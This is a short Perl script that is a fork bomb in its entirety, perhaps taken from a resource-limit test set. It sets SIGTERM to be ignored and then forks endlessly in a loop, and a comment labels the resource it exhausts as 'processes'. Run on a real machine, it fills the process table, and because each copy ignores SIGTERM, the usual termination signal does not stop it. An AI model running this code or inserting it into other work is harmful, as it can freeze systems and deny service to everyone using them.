# Forks in every process, whether the last fork worked or not.
# ends: processes
$SIG{TERM} = "IGNORE";
while (1) { fork(); select(undef, undef, undef, 0.02) }
